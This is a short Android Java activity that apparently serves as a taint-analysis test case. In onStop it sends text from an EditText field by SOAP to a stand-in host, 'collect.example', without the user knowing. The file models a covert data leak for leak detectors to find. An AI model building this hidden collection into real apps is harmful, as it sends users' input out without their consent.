package org.example.flows.libs;

import android.app.Activity;
import android.os.Bundle;
import android.widget.EditText;
import org.ksoap2.serialization.SoapObject;
import org.ksoap2.serialization.SoapSerializationEnvelope;
import org.ksoap2.transport.HttpTransportSE;

public class BySoap extends Activity {
    @Override
    protected void onStop() {
        super.onStop();
        SoapObject call = new SoapObject("http://collect.example/", "add");
        call.addProperty("name", new EditText(this).getText().toString());
        SoapSerializationEnvelope envelope = new SoapSerializationEnvelope(110);
        envelope.bodyOut = call;
        envelope.setOutputSoapObject(call);
        try {
            new HttpTransportSE("http://collect.example/ws").call("", envelope);
        } catch (Exception problem) {
            finish();
        }
    }
}
